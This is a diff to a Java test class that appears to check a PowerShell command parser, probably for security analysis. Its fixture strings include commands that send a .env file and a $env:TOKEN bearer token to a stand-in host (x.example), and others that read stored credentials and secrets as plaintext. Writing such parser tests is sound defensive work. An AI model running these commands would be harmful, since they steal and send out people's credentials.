@@ -42,7 +42,7 @@ class PowerShellReaderTest {
             + " arguments('invoke-restmethod' 'https://x.example' '-body'"
             + " output arguments('get-content' '.env' '-raw'))",
         "irm x.example -Headers @{Authorization = \"Bearer $env:TOKEN\"} =>"
-            + " arguments('invoke-restmethod' 'x.example' '-headers' from('Bearer ' + var('TOKEN')))",
+            + " arguments('invoke-restmethod' 'x.example' '-headers' from(var('TOKEN')))",
         "(Get-StoredCredential -Target git).GetNetworkCredential().Password =>"
             + " print(from(output arguments('get-storedcredential' '-target' 'git')))",
         "Get-Secret -Name stripe -AsPlainText =>"
